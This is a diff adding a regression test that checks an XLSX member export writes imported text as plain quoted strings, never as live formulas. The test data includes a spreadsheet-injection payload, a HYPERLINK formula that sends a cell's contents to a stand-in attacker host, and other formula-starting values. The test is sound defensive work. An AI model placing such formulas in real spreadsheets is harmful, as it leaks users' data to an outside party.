@@ -631,3 +631,21 @@ def test_r01_export_query_count_is_constant(world, client_for):
     client = client_for(world.secretary)
     # session, user, scope (person, body staff, committee seats), the organization, the members.
     assert export_queries(client, world, 5) == export_queries(client, world, 50)
+
+
+def test_r01_imported_text_is_exported_as_text_never_as_a_formula(world, client_for):
+    """#17.4: the member export wrote `=HYPERLINK(...)` and `=1+2` from imported text as live formulas."""
+    from openpyxl import load_workbook
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    PersonFactory(full_name="Ngô Văn Công", workplace=link, job_title="=1+2", email="", home_org=world.c2)
+    PersonFactory(full_name="Lý Thị Dung", workplace="+84 24 3825", job_title="@SUM(A1)", home_org=world.c2)
+    response = client_for(world.secretary).get(reverse("orgs:export", args=["G1"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    for text in (link, "=1+2", "+84 24 3825", "@SUM(A1)"):
+        assert cells[text].data_type == "s", text
+        assert cells[text].quotePrefix, text
+    # Read back, they are the same text (an export can be imported again).
+    rows = {r.values["full_name"]: r.values for r in xlsx.read_members(io.BytesIO(response.content))}
+    assert rows["Ngô Văn Công"]["workplace"] == link and rows["Ngô Văn Công"]["job_title"] == "=1+2"
